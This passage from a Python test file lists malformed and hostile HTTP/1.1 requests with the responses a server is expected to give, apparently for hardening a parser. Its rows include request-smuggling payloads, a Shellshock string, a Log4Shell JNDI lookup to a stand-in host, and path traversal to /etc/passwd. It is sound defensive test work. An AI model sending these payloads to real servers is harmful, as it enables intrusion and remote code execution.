"""Malformed and hostile requests, one row each: what is sent, which statuses come back, whether the connection lives.

After each row the test sends a marked request on the same connection: behind `kept` it is answered, behind `closed` it must not
be. `cut` is closed behind an answer that did not say so, since the error came later. `silent` rows are no complete request: nothing is
answered. Sources of the ideas: RFC 9110 and 9112, the public cases of llhttp
and h1spec, and what was published about nginx, haproxy, h2o, Node, Apache, Go, Puma, gunicorn, Tomcat, lighttpd and Twisted.
The bytes are our own. Spec 10 §1.1, §1.9 and §1.10 say what is right.
"""

KEPT, CLOSED, CUT, SILENT = "kept", "closed", "cut", "silent"
ROWS = []


class Row:
    def __init__(self, name, sent, statuses, connection, heads):
        self.name, self.sent, self.statuses, self.connection, self.heads = name, sent, statuses, connection, heads


def row(name, sent, *statuses, connection, heads=()):
    assert all(name != known.name for known in ROWS), name
    ROWS.append(Row(name, sent, statuses, connection, heads))


def kept(name, sent, *statuses, heads=()):
    row(name, sent, *statuses, connection=KEPT, heads=heads)


def closed(name, sent, *statuses, heads=()):
    row(name, sent, *(statuses or (400,)), connection=CLOSED, heads=heads)


def cut(name, sent, *statuses):
    row(name, sent, *statuses, connection=CUT)


def silent(name, sent):
    row(name, sent, connection=SILENT)


HOST = b"Host: a\r\n"
END = b"\r\n"
# Never answered; the path is looked for in the access log.
SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n"


def get(fields=b"", target=b"/health", version=b"HTTP/1.1", host=HOST):
    return b"GET " + target + b" " + version + b"\r\n" + host + fields + b"\r\n"


def line(text):
    """A request with this request line."""
    return text + b"\r\n" + HOST + b"\r\n"


def post(fields, body=b"", target=b"/auth/login", method=b"POST", version=b"HTTP/1.1"):
    return method + b" " + target + b" " + version + b"\r\n" + HOST + fields + b"\r\n" + body


def sized(body, fields=b"", **more):
    return post(b"Content-Length: %d\r\n" % len(body) + fields, body, **more)


def length(value, body=b"hello", **more):
    return post(b"Content-Length: " + value + b"\r\n", body, **more)


def coding(value, body=b"5\r\nhello\r\n0\r\n\r\n", **more):
    return post(b"Transfer-Encoding: " + value + b"\r\n", body, **more)


def chunked(body, **more):
    return coding(b"chunked", body, **more)


def repr_of(octets):
    return repr(octets)[2:-1]


# ---- the request line: blanks and control characters ----

for name, text in {
    "two blanks before the target": b"GET  /health HTTP/1.1",
    "two blanks before the version": b"GET /health  HTTP/1.1",
    "blank behind the version": b"GET /health HTTP/1.1 ",
    "blank in front of the method": b" GET /health HTTP/1.1",
    "tab in front of the method": b"\tGET /health HTTP/1.1",
    "tab for a blank": b"GET\t/health HTTP/1.1",
    "tab before the version": b"GET /health\tHTTP/1.1",
    "tab behind the version": b"GET /health HTTP/1.1\t",
    "VT for a blank": b"GET\x0b/health HTTP/1.1",
    "FF for a blank": b"GET /health\x0cHTTP/1.1",
    "blank in the target": b"GET /hea lth HTTP/1.1",
    "blank and NUL in the target": b"GET /health \x00.json HTTP/1.1",
    "NUL in the method": b"GE\x00T /health HTTP/1.1",
    "NUL in the target": b"GET /health\x00 HTTP/1.1",
    "NUL behind the version": b"GET /health HTTP/1.1\x00",
    "DEL in the target": b"GET /health\x7f HTTP/1.1",
    "SOH in the target": b"GET /\x01health HTTP/1.1",
    "ESC in the target": b"GET /\x1b[31mhealth HTTP/1.1",
    "raw UTF-8 in the target": "GET /hälth HTTP/1.1".encode(),
    "raw Latin-1 in the target": b"GET /h\xe4lth HTTP/1.1",
    "full-width letters as method": "ＧＥＴ /health HTTP/1.1".encode(),
    "CR in the target": b"GET /hea\rlth HTTP/1.1",
    "CR for a blank": b"GET\r/health HTTP/1.1",
    "two CRs": b"GET /health HTTP/1.1\r",
    "no target": b"GET HTTP/1.1",
    "empty target": b"GET  HTTP/1.1",
    "no method": b"/health HTTP/1.1",
    "empty method": b" /health HTTP/1.1",
    "only a method": b"GET",
    "four words": b"GET /health HTTP/1.1 more",
    "a response": b"HTTP/1.1 200 OK",
    "method with a colon": b"GET: /health HTTP/1.1",
    "method with braces": b"{GET} /health HTTP/1.1",
    "method with at": b"G@T /health HTTP/1.1",
    "method with quotes": b"\"GET\" /health HTTP/1.1",
    "method with slash": b"GET/ /health HTTP/1.1",
    "field where the line should be": b"Host: b",
}.items():
    closed(name, line(text))

closed("LF behind the request line", b"GET /health HTTP/1.1\nHost: a\r\n\r\n")
closed("LF everywhere", b"GET /health HTTP/1.1\nHost: a\n\n")
closed("LF and CR swapped", b"GET /health HTTP/1.1\n\rHost: a\n\r\n\r")
closed("LF in front", b"\n" + get())
closed("CR in front", b"\r" + get())
closed("CR, CR and LF in front", b"\r\r\n" + get())
closed("blank and CRLF in front", b" \r\n" + get())
closed("two CRLFs in front", b"\r\n\r\n" + get())
closed("byte order mark in front", b"\xef\xbb\xbf" + get())
closed("NUL in front", b"\0" + get())
closed("a chunk's end in front", b"0\r\n\r\n" + get())
kept("one CRLF in front", b"\r\n" + get(), 200)

# ---- versions ----

for version in (b"HTTP/1.2", b"HTTP/1.9"):
    kept(f"version {version.decode()}", get(version=version), 200)
for version in (b"HTTP/0.9", b"HTTP/2.0", b"HTTP/3.0", b"HTTP/9.9", b"HTTP/0.0"):
    closed(f"version {version.decode()}", get(version=version), 505)
for version in (b"HTTP/1", b"HTTP/2", b"HTTP/1.", b"HTTP/.1", b"HTTP/1.10", b"HTTP/1.01", b"HTTP/01.1", b"HTTP/11.1", b"HTTP/1,1", b"HTTP/1.1x",
                b"HTTP/1.a", b"HTTP/+1.1", b"HTTP/-1.1", b"HTTP/1.-1", b"http/1.1", b"Http/1.1", b"HTTPS/1.1", b"HTTP 1.1", b"HTTP/ 1.1",
                b"HTTP/1 .1", b"HTTP//1.1", b"HTTP", b"ICE/1.0", b"RTSP/1.0", b"SIP/2.0", "HTTP/１.1".encode(), b"HTTP/1.\x00"):
    closed(f"version {repr_of(version)}", get(version=version))
closed("HTTP/0.9", b"GET /health\r\n")
closed("HTTP/0.9 with a blank", b"GET /health \r\n")
closed("HTTP/1.0", get(version=b"HTTP/1.0"), 200)
closed("HTTP/1.0 without Host", get(version=b"HTTP/1.0", host=b""), 200)
kept("HTTP/1.0 that stays", get(b"Connection: keep-alive\r\n", version=b"HTTP/1.0"), 200)
closed("HTTP/1.0 that stays and closes", get(b"Connection: keep-alive, close\r\n", version=b"HTTP/1.0"), 200)
closed("HTTP/1.0 with Keep-Alive alone", get(b"Keep-Alive: timeout=5, max=100\r\n", version=b"HTTP/1.0"), 200)

# ---- other protocols ----

closed("HTTP/2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00", 505)
closed("HTTP/2 preface as 1.1", b"PRI * HTTP/1.1\r\nHost: a\r\n\r\nSM\r\n\r\n")
closed("HTTP/2 frame", b"\x00\x00\x12\x04\x00\x00\x00\x00\x00")
closed("TLS hello", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(256)))
closed("SSL 2 hello", b"\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10")
closed("SSH", b"SSH-2.0-OpenSSH_9.2\r\n")
closed("SMTP", b"EHLO a.test\r\nMAIL FROM:<a@a.test>\r\n")
closed("FTP", b"USER a\r\nPASS b\r\n")
closed("Redis", b"*2\r\n$4\r\nPING\r\n$1\r\na\r\n")
closed("memcached", b"set a 0 0 5\r\nhello\r\n")
closed("PostgreSQL", b"\x00\x00\x00\x08\x04\xd2\x16\x2f")
closed("PROXY protocol", b"PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n" + get())
closed("PROXY protocol 2", b"\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c\x7f\x00\x00\x01\x7f\x00\x00\x01\x00\x01\x00\x02" + get())
closed("FastCGI", b"\x01\x01\x00\x01\x00\x08\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00")
closed("AJP", b"\x12\x34\x00\x01\x0a")
closed("SOCKS 5", b"\x05\x01\x00")
closed("JSON", b'{"jsonrpc":"2.0","method":"ping"}\r\n')
closed("DNS over TCP", b"\x00\x1d\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x01a\x00\x00\x01\x00\x01")

# ---- targets ----

for target in (b"health", b"\\health", b"?a", b"#a", b"*", b"*/health", b"a:80", b"/health#a", b"/health?a#b", b"http:/health", b"http:health",
               b"http://", b"http:///health", b"http://:80/health", b"http://u@a/health", b"http://u:p@a/health", b"http://a@b@c/health",
               b"http://a:65536/health", b"http://a:8x/health", b"http://a:-1/health", b"http://[::1/health", b"http://[]/health", b"http://[::g]/health",
               b"http://a\\b/health", b"http://a/health#b", b"https://a/health", b"ftp://a/health", b"file:///etc/passwd", b"javascript:alert(1)",
               b"://a/health", b"//", b"http://a b/health", b"HTTP/1.1"):
    if target == b"//":
        kept("target //", get(target=target), 404)
    else:
        closed(f"target {repr_of(target)}", get(target=target))
for target, status in {
    b"http://a/health": 200, b"HTTP://a/health": 200, b"http://b.test/health": 200, b"http://b.test:8080/health": 200, b"http://a:/health": 200,
    b"http://[::1]/health": 200, b"http://[::1]:80/health": 200, b"http://a": 404, b"http://a/": 404, b"http://a?b": 404, b"/": 404,
    b"/%68ealth": 200, b"/%2568ealth": 404, b"/health/": 200, b"/health//": 404, b"//health": 404, b"/./health": 404, b"/x/../health": 404,
    b"/../health": 404, b"/%2e%2e/health": 404, b"/x/%2e%2e/health": 404, b"/.%2e/.%2e/etc/passwd": 404, b"/health/.": 404, b"/health/..": 404,
    b"/health%2f": 404, b"/health;a=b": 404, b"/HEALTH": 404, b"/health%20": 404, b"/health?": 200, b"/health?a=b&a=b&&=&": 200,
    b"/health?%5B%5D=%7B%7D": 200, b"/health?{}|^`\"<>\\": 200, b"/health??a": 200, b"/a:b@c!$&'()*+,;=": 404, b"/.git/config": 404,
    b"/http://a/health": 404, b"/" + b"a/" * 2000: 404, b"/" + b"%41" * 2000: 404, b"/health?" + b"a&" * 4000: 200, b"/health?" + b"a=b&" * 2000: 200,
}.items():
    kept(f"target {repr_of(target[:60])}", get(target=target), status)
for target in (b"/health%", b"/health%2", b"/health%zz", b"/health%%", b"/health%0", b"/%00", b"/health%00", b"/%ff", b"/%c0%af", b"/%c0%ae%c0%ae/",
               b"/%ed%a0%80", b"/%f4%90%80%80", b"/%e4", b"/%u0041", b"/health?%00", b"/health?%ff", b"/health?a=%zz", b"/health?a=%", b"/health?%c0%80=a"):
    kept(f"escape {repr_of(target)}", get(target=target), 400)

# ---- methods ----

kept("OPTIONS *", line(b"OPTIONS * HTTP/1.1"), 204)
kept("OPTIONS of a path", line(b"OPTIONS /health HTTP/1.1"), 204)
kept("OPTIONS of no path", line(b"OPTIONS /nowhere HTTP/1.1"), 404)
kept("OPTIONS with a body", sized(SMUGGLED, method=b"OPTIONS", target=b"*"), 204)
closed("OPTIONS *a", line(b"OPTIONS *a HTTP/1.1"))
closed("POST *", line(b"POST * HTTP/1.1"))
closed("M-SEARCH *", line(b"M-SEARCH * HTTP/1.1"))
for method in (b"TRACE", b"CONNECT", b"get", b"GeT", b"GETT", b"GE", b"PRI", b"QUERY", b"PROPFIND", b"DEBUG", b"!#$%&'*+-.^_`|~", b"M" * 8000):
    kept(f"method {method[:20].decode()}", line(method + b" /health HTTP/1.1"), 405)
kept("CONNECT to an authority", line(b"CONNECT a.test:443 HTTP/1.1"), 405)
closed("CONNECT with user info", line(b"CONNECT u@a.test:443 HTTP/1.1"))
kept("CONNECT with a body", sized(SMUGGLED, method=b"CONNECT", target=b"a.test:443"), 405)
kept("TRACE of no path", line(b"TRACE /nowhere HTTP/1.1"), 405)
kept("TRACE with a body", sized(SMUGGLED, method=b"TRACE", target=b"/health"), 405)
kept("HEAD", line(b"HEAD /health HTTP/1.1"), 200, heads=(0,))
kept("HEAD of no path", line(b"HEAD /nowhere HTTP/1.1"), 404, heads=(0,))
kept("HEAD of a POST route", line(b"HEAD /auth/login HTTP/1.1"), 405, heads=(0,))
kept("HEAD of a stream", line(b"HEAD /chats/5d1c9a52-0f6c-4b0e-9f3e-9b7a4a1f8a10/stream/a HTTP/1.1"), 401, heads=(0,))
kept("HEAD with a body", sized(SMUGGLED, method=b"HEAD", target=b"/health"), 200, heads=(0,))
kept("HEAD with a chunked body", chunked(b"%x\r\n" % len(SMUGGLED) + SMUGGLED + b"\r\n0\r\n\r\n", method=b"HEAD", target=b"/health"), 200, heads=(0,))
kept("GET with a body", sized(SMUGGLED, method=b"GET", target=b"/health"), 200)
kept("GET with a chunked body", chunked(b"%x\r\n" % len(SMUGGLED) + SMUGGLED + b"\r\n0\r\n\r\n", method=b"GET", target=b"/health"), 200)
kept("GET of a POST route with a body", sized(SMUGGLED, method=b"GET", target=b"/auth/login"), 405)
kept("POST of a GET route with a body", sized(SMUGGLED, target=b"/health"), 405)
kept("POST of no path with a body", sized(SMUGGLED, target=b"/nowhere"), 404)
kept("POST of no path with a chunked body", chunked(b"5\r\nhello\r\n0\r\n\r\n", target=b"/nowhere"), 404)
kept("POST without a credential with a body", sized(SMUGGLED, target=b"/api/v1/api-keys"), 401)
kept("DELETE without a credential with a body", sized(SMUGGLED, method=b"DELETE", target=b"/api/v1/api-keys/a"), 401)
kept("POST with a broken escape and a body", sized(SMUGGLED, target=b"/%zz"), 400)
kept("POST without any length", post(b""), 422)

# ---- fields ----

closed("LF behind a field", b"GET /health HTTP/1.1\r\nHost: a\nA: b\r\n\r\n")
closed("LF at the end", b"GET /health HTTP/1.1\r\nHost: a\r\n\n")
closed("CR in a value", get(b"A: b\rc\r\n"))
closed("CR at the end of a value", get(b"A: b\r\r\n"))
closed("LF hides a field", get(b"A: b\nTransfer-Encoding: chunked\r\n"))
closed("CR hides a field", get(b"A: b\rTransfer-Encoding: chunked\r\n"))
closed("CR in front of a field", get(b"\rA: b\r\n"))
closed("CR in front of a hidden field", get(b"A: b\r\n\rTransfer-Encoding: chunked\r\n"))
closed("CR instead of the last CRLF", b"GET /health HTTP/1.1\r\nHost: a\r\n\r\r")
for name, fold in {"a blank": b" ", "a tab": b"\t", "many blanks": b"          "}.items():
    closed(f"folded by {name}", get(b"A: b\r\n" + fold + b"c\r\n"))
    closed(f"first field folded by {name}", b"GET /health HTTP/1.1\r\n" + fold + b"Host: a\r\n\r\n")
    closed(f"a line of {name}", get(b"A: b\r\n" + fold + b"\r\n"))
closed("folded length", post(b"Content-Length:\r\n 5\r\n", b"hello"))
closed("folded coding", post(b"Transfer-Encoding:\r\n chunked\r\n", b"0\r\n\r\n"))
closed("folded Host", b"GET /health HTTP/1.1\r\nHost:\r\n a\r\n\r\n")
for name in (b"", b" ", b"A ", b"A\t", b" A", b"A B", b"A\0", b"\0A", b"A\x01", b"A\x7f", b"A\x80", b"\xffA", "é".encode(), b"A(", b"A)", b"A,", b"A/", b"A;", b"A<",
             b"A=", b"A?", b"A@", b"A[", b"A\\", b"A]", b"A{", b"A}", b'A"', b"A\x0b", b"A\x1f"):
    closed(f"field name {repr_of(name)!r}", get(name + b": b\r\n"))
for name in (b"Host", b"Content-Length", b"Transfer-Encoding"):
    closed(f"blank behind {name.decode()}", get(name + b" : 5\r\n"))
    closed(f"tab behind {name.decode()}", get(name + b"\t: 5\r\n"))
    closed(f"NUL behind {name.decode()}", get(name + b"\0: 5\r\n"))
    closed(f"soft hyphen in {name.decode()}", get(name[:4] + b"\xad" + name[4:] + b": 5\r\n"))
    closed(f"CRLF behind {name.decode()}", get(name + b"\r\n: 5\r\n"))
closed("line without colon", get(b"abc\r\n"))
closed("empty name first", b"GET /health HTTP/1.1\r\n: b\r\nHost: a\r\n\r\n")
closed("request line among the fields", get(b"GET /nowhere HTTP/1.1\r\n"))
for octet in (0, 1, 7, 8, 11, 12, 14, 27, 31, 127):
    closed(f"octet {octet} in a value", get(b"A: b" + bytes([octet]) + b"c\r\n"))
kept("empty value", get(b"A:\r\n"), 200)
kept("blank value", get(b"A: \t \r\n"), 200)
kept("tab in a value", get(b"A:\tb\tc\t\r\n"), 200)
kept("octets over 127 in a value", get(b"A: " + bytes(range(128, 256)) + b"\r\n"), 200)
kept("every printable octet in a value", get(b"A: " + bytes(range(33, 127)) + b"\r\n"), 200)
kept("every token octet in a name", get(b"!#$%&'*+-.^_`|~09azAZ: b\r\n"), 200)
kept("long name of a known field", sized(b"hello", b"Content-Length0" + b"a" * 270 + b": 0\r\n"), 422)
kept("underscores are no hyphens", sized(b"hello", b"Content_Length: 0\r\nTransfer_Encoding: chunked\r\n"), 422)
kept("Apache's range killer", get(b"Range: bytes=0-" + b",".join(b"5-%d" % n for n in range(1000)) + b"\r\n"), 200)
kept("range over 64 bits", get(b"Range: bytes=0-18446744073709551615\r\n"), 200)
kept("negative ranges", get(b"Range: bytes=-17208,-9223372036854758792\r\n"), 200)
kept("conditions", get(b"If-None-Match: *\r\nIf-Match: \"a\"\r\nIf-Modified-Since: never\r\nIf-Range: \"a\"\r\n"), 200)
kept("function in a field", get(b"User-Agent: () { :;}; echo a\r\nX-Api-Version: ${jndi:ldap://a.test/a}\r\n"), 200)
kept("forwarding fields of nonsense", get(b"X-Forwarded-For: , ,,a, [::1, 1.2.3.4.5,\r\nX-Forwarded-For: unknown\r\nForwarded: for=_a\r\nX-Forwarded-Proto: ,\r\n"), 200)
kept("long list of forwarders", get(b"X-Forwarded-For: " + b"127.0.0.1, " * 2500 + b"127.0.0.1\r\n"), 200)
kept("method overrides are ignored", get(b"X-HTTP-Method-Override: DELETE\r\nX-Original-URL: /nowhere\r\nX-Rewrite-URL: /nowhere\r\n"), 200)
kept("credential of nonsense", get(b"Authorization: Bearer \xff\xfe\r\n", target=b"/auth/me"), 401)
kept("long credential", get(b"Authorization: Bearer " + b"a.b.c" * 6000 + b"\r\n", target=b"/auth/me"), 401)
kept("blank credential", get(b"Authorization:\r\nX-API-Key:\r\n", target=b"/auth/me"), 401)
kept("credential of dots", get(b"Authorization: Bearer ..\r\n", target=b"/auth/me"), 401)
kept("negotiated login", get(b"Authorization: Negotiate YII=\r\n", target=b"/auth/me"), 401)
kept("origin of nonsense", get(b"Origin: \xff\t,null\r\n"), 200)

# ---- limits, exactly and one more ----

LINE = b"GET /health? HTTP/1.1"


def section(octets):
    """A request whose header section has so many octets."""
    return get(b"A: " + b"a" * (octets - len(HOST) - len(b"A: \r\n")) + b"\r\n")


kept("line of 8192", line(b"GET /health?" + b"a" * (8192 - len(LINE)) + b" HTTP/1.1"), 200)
kept("line of 8192 behind a CRLF", b"\r\n" + line(b"GET /health?" + b"a" * (8192 - len(LINE)) + b" HTTP/1.1"), 200)
closed("line of 8193", line(b"GET /health?" + b"a" * (8193 - len(LINE)) + b" HTTP/1.1"), 414)
closed("method of 9000", b"A" * 9000, 414)
closed("line of 100 KiB", b"GET /" + b"a" * 102400, 414)
kept("section of 32768", section(32768), 200)
closed("section of 32769", section(32769), 431)
closed("name without end", b"GET /health HTTP/1.1\r\n" + b"a" * 33000, 431)
closed("section of 100 KiB", get(b"A: " + b"a" * 102400 + b"\r\n"), 431)
kept("100 fields", get(b"a:\r\n" * 99), 200)
closed("101 fields", get(b"a:\r\n" * 100), 431)
closed("8000 fields", get(b"a:\r\n" * 8000), 431)
kept("body of 16384 for a login", sized(b" " * 16384), 422)
kept("body of 16385 for a login", sized(b" " * 16385), 413)
kept("chunks of 16384 for a login", chunked(b"2000\r\n" + b" " * 8192 + b"\r\n2000\r\n" + b" " * 8192 + b"\r\n0\r\n\r\n"), 422)
closed("chunks of 16385 for a login", chunked(b"2000\r\n" + b" " * 8192 + b"\r\n2001\r\n"), 413)
kept("skipped body of 65536", sized(b"a" * 65536, method=b"GET", target=b"/health"), 200)
closed("skipped body of 65537", sized(b"a" * 65537, method=b"GET", target=b"/health"), 200)
kept("skipped body of 65536 nowhere", sized(b"a" * 65536, target=b"/nowhere"), 404)
closed("skipped body of 65537 nowhere", sized(b"a" * 65537, target=b"/nowhere"), 404)
cut("skipped chunks without end", chunked((b"1000\r\n" + b"a" * 4096 + b"\r\n") * 17, target=b"/nowhere"), 404)

# ---- Host ----

closed("no Host", get(host=b""))
closed("no Host, absolute target", get(host=b"", target=b"http://a/health"))
closed("two Hosts", get(HOST))
closed("two Hosts, other letters", get(b"hOST: a\r\n"))
closed("two Hosts, absolute target", get(HOST, target=b"http://a/health"))
closed("two Hosts, the second empty", get(b"Host:\r\n"))
closed("two Hosts in HTTP/1.0", get(HOST, version=b"HTTP/1.0"))
for host in (b"", b"a b", b"a, b", b"a,\tb", b"a/b", b"u@a", b"u:p@a", b"a:80x", b"a:65536", b"a:99999999999999999999", b"a:-1", b"a:+80", b"a: 80", b"a:80:80", b":80", b"[::1", b"[]",
             b"[::g]", b"[::1]a", b"::1", b"http://a", b"a#b", b"a?b", b"a\\b", b"<a>", b"a|b", b"a^b", b"{a}", b"\"a\"", "ä".encode(), b"a%", b"a%zz", b"a\tb"):
    closed(f"Host {repr_of(host)!r}", get(host=b"Host: " + host + b"\r\n"))
closed("invalid Host in HTTP/1.0", get(host=b"Host: a b\r\n", version=b"HTTP/1.0"))
closed("invalid Host, absolute target", get(host=b"Host: a b\r\n", target=b"http://a/health"))
for host in (b"a", b"A.TEST", b"a.", b"a:", b"a:0", b"a:65535", b"127.0.0.1", b"1.2.3.4:5", b"[::1]", b"[::1]:8000", b"a_b", b"xn--a", b"a%41", b"-", b"localhost", b"a" * 253):
    kept(f"Host {repr_of(host[:20])!r} is fine", get(host=b"Host: " + host + b"\r\n"), 200)
kept("blanks around Host", get(host=b"Host:\t a \t\r\n"), 200)
kept("Host is last", b"GET /health HTTP/1.1\r\nA: b\r\nHost: a\r\n\r\n", 200)

# ---- Connection, Upgrade, Expect ----

for value in (b"close", b"CLOSE", b"Close", b"keep-alive, close", b"close, keep-alive", b",close,", b"a,\tclose", b"\tclose\t", b"close, close"):
    closed(f"Connection: {repr_of(value)}", get(b"Connection: " + value + b"\r\n"), 200)
closed("the second Connection closes", get(b"Connection: keep-alive\r\nConnection: close\r\n"), 200)
for value in (b"", b",", b"closed", b"x-close", b"close;a", b"keep-alive", b"\"close\"", b"clo se", b"Host", b"upgrade"):
    kept(f"Connection: {repr_of(value)!r} stays", get(b"Connection: " + value + b"\r\n"), 200)
kept("Connection names framing fields", sized(b"hello", b"Connection: Content-Length, Host\r\n"), 422)
kept("Proxy-Connection: close", get(b"Proxy-Connection: close\r\n"), 200)
closed("Connection: close with a body", sized(b"hello", b"Connection: close\r\n"), 422)
kept("Upgrade: h2c", get(b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"), 200)
kept("Upgrade: websocket", get(b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"), 200)
kept("Upgrade: TLS", line(b"OPTIONS * HTTP/1.1")[:-2] + b"Connection: Upgrade\r\nUpgrade: TLS/1.0\r\n\r\n", 204)
kept("Upgrade with a body", sized(SMUGGLED, b"Connection: Upgrade\r\nUpgrade: h2c\r\n"), 422)
kept("Upgrade with a chunked body", post(b"Transfer-Encoding: chunked\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n", b"5\r\nhello\r\n0\r\n\r\n"), 422)

CONTINUE = b"Expect: 100-continue\r\n"
kept("100-continue", sized(b"hello", CONTINUE), 100, 422)
kept("100-Continue", sized(b"hello", b"Expect: 100-CONTINUE\r\n"), 100, 422)
kept("100-continue twice", sized(b"hello", CONTINUE * 2), 100, 422)
kept("100-continue listed twice", sized(b"hello", b"Expect: 100-continue, 100-continue\r\n"), 100, 422)
kept("100-continue with chunks", post(b"Transfer-Encoding: chunked\r\n" + CONTINUE, b"5\r\nhello\r\n0\r\n\r\n"), 100, 422)
kept("100-continue without a body", get(CONTINUE), 200)
kept("100-continue with an empty body", sized(b"", CONTINUE), 422)
closed("100-continue in 1.0", sized(b"hello", CONTINUE, version=b"HTTP/1.0"), 422)
closed("100-continue, too long", length(b"16385\r\nExpect: 100-continue", b""), 413)
closed("100-continue, nowhere", sized(b"hello", CONTINUE, target=b"/nowhere"), 404)
closed("100-continue, wrong method", sized(b"hello", CONTINUE, target=b"/health"), 405)
closed("100-continue, no credential", sized(b"hello", CONTINUE, target=b"/api/v1/api-keys"), 401)
closed("100-continue, chunks, no credential", post(b"Transfer-Encoding: chunked\r\n" + CONTINUE, b"5\r\nhello\r\n0\r\n\r\n", target=b"/api/v1/api-keys"), 401)
closed("100-continue, GET", sized(b"hello", CONTINUE, method=b"GET", target=b"/health"), 200)
closed("100-continue, invalid length", length(b"+5\r\nExpect: 100-continue"))
closed("100-continue, coded", sized(b"hello", CONTINUE + b"Content-Encoding: gzip\r\n"), 415)
for value in (b"", b"a", b"100", b"100-continue, a", b"200-ok", b"100-continue;a=b", b"100 continue", b"100-continue,", b"100-continued"):
    closed(f"Expect: {repr_of(value)!r}", sized(b"hello", b"Expect: " + value + b"\r\n"), 417)
closed("another expectation without a body", get(b"Expect: a\r\n"), 417)

# ---- what a body is ----

closed("Content-Encoding: gzip", sized(b"hello", b"Content-Encoding: gzip\r\n"), 415)
closed("Content-Encoding: br, chunks", post(b"Transfer-Encoding: chunked\r\nContent-Encoding: br\r\n", b"0\r\n\r\n"), 415)
closed("Content-Encoding: identity, gzip", sized(b"hello", b"Content-Encoding: identity\r\nContent-Encoding: gzip\r\n"), 415)
kept("Content-Encoding without a body", get(b"Content-Encoding: gzip\r\n"), 200)
kept("Content-Encoding: identity", sized(b"hello", b"Content-Encoding: identity\r\n"), 422)
closed("two Content-Types", sized(b"{}", b"Content-Type: application/json\r\nContent-Type: application/json\r\n"))
for value in (b"text/plain", b"application/jsonx", b"application/json; charset=utf-16", b"application/json;charset=latin1", b"multipart/form-data; boundary=a", b"a", b"/", b"application/", b"application/x-www-form-urlencoded"):
    kept(f"Content-Type: {value.decode()}", sized(b"{}", b"Content-Type: " + value + b"\r\n"), 422)
LOGIN = b'{"email":"nobody@sinas.test"}'
for value in (b"application/json", b"APPLICATION/JSON", b"application/json; charset=utf-8", b'application/json;charset="UTF-8"', b"application/json;", b"application/merge-patch+json", b"application/json; a=b"):
    kept(f"Content-Type: {value.decode()} is JSON", sized(LOGIN, b"Content-Type: " + value + b"\r\n"), 403)
kept("no Content-Type is JSON", sized(LOGIN), 403)

# ---- Content-Length ----

kept("length", length(b"5"), 422)
kept("length 0", length(b"0", b""), 422)
kept("length 00005", length(b"00005"), 422)
kept("length of 5000 digits that is 5", length(b"0" * 4999 + b"5"), 422)
kept("blanks around the length", length(b"\t 5 \t"), 422)
kept("length without blank", post(b"Content-Length:5\r\n", b"hello"), 422)
kept("cONTENT-lENGTH", post(b"cONTENT-lENGTH: 5\r\n", b"hello"), 422)
for value in (b"", b"+5", b"-5", b"-0", b"+0", b"5a", b"a5", b"0x5", b"5.0", b"5e0", b"5,5", b"5, 5", b"5,6", b"5,", b",5", b"5 5", b"5;", b"\"5\"", b"'5'", b"1_0", b"5\x0b", b"5\xa0", b"\xa05",
              "٥".encode(), "５".encode(), b"5\x00", b"chunked", b"NaN", b"Infinity", b"null", b"0b101", b"05h", b"%35"):
    closed(f"length {repr_of(value)!r}", length(value))
closed("two lengths", length(b"5\r\nContent-Length: 5"))
closed("two lengths that differ", length(b"5\r\nContent-Length: 6"))
closed("two lengths, zero first", length(b"0\r\nContent-Length: %d" % len(SMUGGLED), SMUGGLED))
closed("two lengths, zero last", length(b"%d\r\nContent-Length: 0" % len(SMUGGLED), SMUGGLED))
closed("two lengths, other letters", length(b"5\r\ncontent-length: 5"))
closed("three lengths", length(b"5\r\nContent-Length: 5\r\nContent-Length: 5"))
closed("two lengths on GET", length(b"5\r\nContent-Length: 0", method=b"GET", target=b"/health"))
closed("invalid length on GET", length(b"5a", method=b"GET", target=b"/health"))
closed("invalid length nowhere", length(b"5a", target=b"/nowhere"))
for value in (2**31 - 1, 2**31, 2**32 - 1, 2**32, 2**32 + 5, 2**63 - 1, 2**63, 2**64 - 1, 2**64, 2**64 + 5, 10**40, 10**4000):
    closed(f"length {str(value)[:24]} of {len(str(value))} digits", length(b"%d" % value), 413)
    closed(f"length {str(value)[:24]} of {len(str(value))} digits on GET", length(b"%d" % value, method=b"GET", target=b"/health"), 413)
closed("length under the limit on GET", length(b"10485760", method=b"GET", target=b"/health"), 200)
closed("long length nowhere", length(b"99999999", target=b"/nowhere"), 404)
closed("long length, wrong method", length(b"99999999", target=b"/health"), 405)
closed("long length, no credential", length(b"9999999", target=b"/api/v1/api-keys"), 401)
closed("length over the limit, no credential", length(b"10485761", target=b"/api/v1/api-keys"), 413)
closed("length in HTTP/1.0", length(b"5", version=b"HTTP/1.0"), 422)
kept("length in HTTP/1.0 that stays", length(b"5\r\nConnection: keep-alive", version=b"HTTP/1.0"), 422)

# ---- Transfer-Encoding ----

for value in (b"chunked", b"CHUNKED", b"ChUnKeD", b"\tchunked", b"  chunked  ", b"chunked\t"):
    kept(f"coding {repr_of(value)!r}", coding(value), 422)
kept("coding without blank", post(b"Transfer-Encoding:chunked\r\n", b"0\r\n\r\n"), 422)
for value in (b"", b",", b", chunked", b"chunked,", b"chunked, chunked", b"chunked,chunked", b"chunked, ,chunked", b"chunked;q=1", b"chunked;", b"\"chunked\"", b"'chunked", b"[chunked]", b"chu nked", b"chunked chunked",
              b"chunked\xa0", b"\xa0chunked", b"chunked\x0b", b"\x0bchunked", b"chunked\x0c", b"chunked\x00", b"\x00chunked", b"chunked\x1f", b"chunked\x7f", b"chunked\x85", b"(chunked)", b"chunked:", b"chunked=", b"gzip;a=b, chunked",
              "chun\u212aed".encode(), "ｃhunked".encode()):
    if value == b"'chunked":
        closed("coding \"'chunked\"", coding(value), 501)
    else:
